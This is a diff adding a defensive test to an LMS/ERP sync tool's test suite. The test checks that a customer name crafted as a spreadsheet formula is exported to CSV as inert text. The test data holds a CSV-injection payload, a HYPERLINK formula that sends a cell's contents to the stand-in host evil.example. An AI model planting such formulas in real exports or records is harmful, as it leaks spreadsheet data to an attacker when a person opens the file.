@@ -128,3 +128,24 @@ def test_config_after_the_command_works_as_before_it(tmp_path):
     assert after.returncode == before.returncode == 0, after.stderr
     assert json.loads(after.stdout)["total"] == json.loads(before.stdout)["total"] == 0
     assert proc.run("status", f"--config={cfg}", secrets=False).returncode == 0
+
+
+def test_erp_text_that_looks_like_a_formula_is_exported_as_text(sandboxes, tmp_path):
+    """A customer named `=HYPERLINK(...)` must not become a live formula in the CSV a person opens."""
+    import csv
+    import io
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    scn = scenario.build(n_students=1, receipts_per_student=1)
+    scn["erp_data"]["documents"]["Payment Entry"].append(scenario.new_receipt(
+        900, evil, 1000, None, scenario.datetime(2026, 11, 2, 9, 0, tzinfo=scenario.KHI)))
+    lms, erp = sandboxes(scn)
+    cfg = proc.write_config(tmp_path, lms, erp)
+    assert proc.run("--config", str(cfg), "once").returncode == 1
+    out = proc.run("--config", str(cfg), "conflicts", "export", "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["customer"] == "'" + evil and row["amount"] == "1000"
+    report = proc.run("--config", str(cfg), "report", "--out", str(tmp_path / "rep"), "--json")
+    assert report.returncode == 0
+    assert "'" + evil.replace('"', '""') in (tmp_path / "rep" / "conflicts.csv").read_text()
+    assert json.loads(proc.run("--config", str(cfg), "conflicts", "list", "--json").stdout)[
+        "conflicts"][0]["customer"] == evil   # JSON keeps the value as the ERP holds it
